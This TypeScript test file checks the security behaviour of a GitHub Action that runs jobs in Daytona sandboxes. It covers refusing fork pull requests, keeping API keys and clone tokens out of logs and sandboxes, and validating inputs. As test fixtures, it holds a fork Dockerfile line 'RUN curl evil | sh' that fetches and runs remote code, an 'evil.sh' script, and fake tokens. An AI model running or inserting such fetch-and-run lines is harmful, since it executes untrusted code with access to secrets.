// What the action refuses and what it keeps secret: bad inputs, fork pull requests, private clones.
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { type AddressInfo, createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { forkRepo } from '../../runner/git-fixtures.ts'
import { startGitHttpServer } from '../helpers/git-http-server.ts'
import {
  BASE,
  job,
  liveSandboxes,
  openForkPullRequest,
  openProject,
  type Project,
  visibleLog,
} from './project.ts'

let project: Project
beforeAll(async () => {
  project = await openProject()
})
afterAll(() => project.close())

describe('inputs', () => {
  it('fails on a bad input with one line naming it, before any request', async () => {
    await project.emulator.admin.resetRequests()
    const { main, post } = await job(project, { run: 'true', cpu: '99' })
    expect(main.exitCode).not.toBe(0)
    const errors = main.annotations.filter((a) => a.level === 'error')
    expect(errors).toHaveLength(1)
    expect(errors[0]?.message).toMatch(/^Input 'cpu' .*1 to 16/)
    expect(errors[0]?.message).not.toContain('\n')
    expect(post.exitCode).toBe(0)
    expect((await project.emulator.admin.requests()).total).toBe(0)
  })

  it('never prints the API key, even when the API rejects it, and asks only once', async () => {
    await project.emulator.admin.resetRequests()
    const { main, post } = await job(project, { run: 'true', 'api-key': 'dtn_wrong_key_0123456789' })
    // Daytona locks an IP out after repeated 401s: a wrong key must cost one request, in main and post together.
    expect((await project.emulator.admin.requests()).total).toBe(1)
    expect(post.annotations.filter((a) => a.level === 'warning')).toEqual([])
    expect(main.exitCode).not.toBe(0)
    expect(visibleLog(main)).not.toContain('dtn_wrong_key_0123456789')
    expect(main.annotations.map((a) => a.message).join('\n')).toMatch(
      /Daytona refused the API key \(401\) at .*: check the secret given as 'api-key'/,
    )
  })

  it("says that Daytona cannot be reached, naming 'api-url', when nothing answers there", async () => {
    // a port that was just free: nothing listens on it
    const closed = createServer()
    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve))
    const { port } = closed.address() as AddressInfo
    await new Promise((resolve) => closed.close(resolve))
    const apiUrl = `http://127.0.0.1:${port}/api`
    const { main, post } = await job(project, { run: 'true', 'api-url': apiUrl })
    expect(main.exitCode).not.toBe(0)
    const errors = main.annotations.filter((a) => a.level === 'error').map((a) => a.message)
    expect(errors).toEqual([
      expect.stringMatching(
        /^Could not reach Daytona at .* \(ECONNREFUSED\), after retries: check 'api-url'/,
      ),
    ])
    expect(errors[0]).toContain(apiUrl)
    // no request ever reached Daytona: nothing was made, so nothing is deleted or warned about, in main or post
    expect([...main.annotations, ...post.annotations].filter((a) => a.level === 'warning')).toEqual([])
    expect(post.exitCode).toBe(0)
  })
})

describe('fork pull requests', () => {
  it('explains a missing API key on a pull request from a fork instead of asking for the input', async () => {
    const event = await openForkPullRequest(project, {
      owner: 'eve',
      number: 9,
      files: { 'fix.txt': 'a fix\n' },
    })
    const { main } = await job(project, { run: 'true', 'api-key': '' }, { event })
    expect(main.exitCode).not.toBe(0)
    const [error] = main.annotations.filter((a) => a.level === 'error')
    expect(error?.message).toMatch(
      /^Input 'api-key' is empty because GitHub does not pass secrets .* forks.*allow-fork/,
    )
  })

  it('refuses a fork head under pull_request_target unless the workflow opts in', async () => {
    const event = await openForkPullRequest(project, {
      owner: 'mallory',
      number: 8,
      files: { 'evil.sh': 'echo pwned\n' },
      name: 'pull_request_target',
    })
    await project.emulator.admin.resetRequests()
    const refused = await job(project, { run: 'sh evil.sh' }, { event })
    expect(refused.main.exitCode).not.toBe(0)
    expect(refused.main.annotations.map((a) => a.message).join('\n')).toMatch(/fork.*allow-fork/is)
    expect((await project.emulator.admin.requests()).total).toBe(0)

    const allowed = await job(project, { run: 'sh evil.sh', 'allow-fork': 'true' }, { event })
    expect(allowed.main.exitCode).toBe(0)
    expect(allowed.main.stdout).toContain('pwned')
    expect(await liveSandboxes(project)).toEqual([])
  })
})

describe('what is cloned and built decides, whatever the inputs say', () => {
  it("never builds the workspace's Dockerfile of a fork's pull_request_target, even with repository: <base>", async () => {
    const event = await openForkPullRequest(project, {
      owner: 'trudy',
      number: 10,
      files: { Dockerfile: 'FROM node:22\nRUN curl evil | sh\n' },
      name: 'pull_request_target',
    })
    // the workflow checked out the PR head, then named the base repository to clone
    const ws = await mkdtemp(join(tmpdir(), 'trust-ws-'))
    try {
      await writeFile(join(ws, 'Dockerfile'), 'FROM node:22\nRUN curl evil | sh\n')
      await project.emulator.admin.resetRequests()
      const { main } = await job(project, { run: 'true', repository: BASE }, { event, workspace: ws })
      expect(main.exitCode).not.toBe(0)
      expect(main.annotations.map((a) => a.message).join('\n')).toMatch(
        /Dockerfile.*trudy\/widgets.*allow-fork/is,
      )
      expect((await project.emulator.admin.requests()).total).toBe(0)
    } finally {
      await rm(ws, { recursive: true, force: true })
    }
  })

  it.each([
    ['issue_comment', 'oscar'],
    ['workflow_dispatch', 'olga'],
  ])('refuses %s with repository: <a fork>, which would run its code with secrets', async (name, owner) => {
    await forkRepo(project.git, BASE, `${owner}/widgets`).catch(() => {})
    const event = { name, payload: { repository: { full_name: BASE } } }
    await project.emulator.admin.resetRequests()
    const { main } = await job(project, { run: 'true', repository: `${owner}/widgets` }, { event })
    expect(main.exitCode).not.toBe(0)
    expect(main.annotations.map((a) => a.message).join('\n')).toMatch(
      new RegExp(`${owner}/widgets under ${name}.*allow-fork`, 's'),
    )
    expect((await project.emulator.admin.requests()).total).toBe(0)
  })
})

describe('private repositories', () => {
  it('clones a private repository with the token, which the sandbox never keeps', async () => {
    const token = 'ghs_PrivateCloneToken0123456789abcdefXYZ'
    const server = await startGitHttpServer(project.git.root, token)
    try {
      const inputs = {
        token,
        run: 'git config --get remote.origin.url\n! grep -rq PrivateCloneToken .git ~/.gitconfig ~/.git-credentials 2>/dev/null',
      }
      const env = { ...project.env, GITHUB_SERVER_URL: server.serverUrl }
      const event = privateEvent(project.event)
      const { main } = await job(project, inputs, { env, githubToken: token, event })
      expect(main.exitCode).toBe(0)
      expect(main.stdout).toContain(`${server.serverUrl}/${BASE}.git`)
      expect(server.requests.some((r) => r.authorized)).toBe(true)
      expect(visibleLog(main)).not.toContain(token)

      const wrong = await job(
        project,
        { ...inputs, token: 'ghs_wrong' },
        { env, githubToken: 'ghs_wrong', event },
      )
      expect(wrong.main.exitCode).not.toBe(0)
      expect(wrong.main.annotations.map((a) => a.message).join('\n')).toMatch(/401|auth/i)
      expect(await liveSandboxes(project)).toEqual([])
    } finally {
      await server.close()
    }
  })
})

describe('public repositories', () => {
  it('are cloned without credentials: the token never reaches the sandbox', async () => {
    const token = 'ghs_PublicRepoToken0123456789abcdefXYZ'
    const server = await startGitHttpServer(project.git.root)
    try {
      const env = { ...project.env, GITHUB_SERVER_URL: server.serverUrl }
      const { main } = await job(project, { token, run: 'true' }, { env, githubToken: token })
      expect(main.exitCode).toBe(0)
      expect(server.requests.length).toBeGreaterThan(0)
      expect(server.requests.some((r) => r.user !== undefined)).toBe(false)
      expect(main.stdout).toContain('public: no credentials sent')
    } finally {
      await server.close()
    }
  })
})

/** The project's pull request event, with every repository in it private. */
function privateEvent(event: Project['event']): Project['event'] {
  const payload = structuredClone(event.payload) as Record<string, unknown> & {
    repository?: { private?: boolean }
    pull_request?: { head?: { repo?: { private?: boolean } }; base?: { repo?: { private?: boolean } } }
  }
  for (const repo of [
    payload.repository,
    payload.pull_request?.head?.repo,
    payload.pull_request?.base?.repo,
  ]) {
    if (repo) repo.private = true
  }
  return { ...event, payload }
}
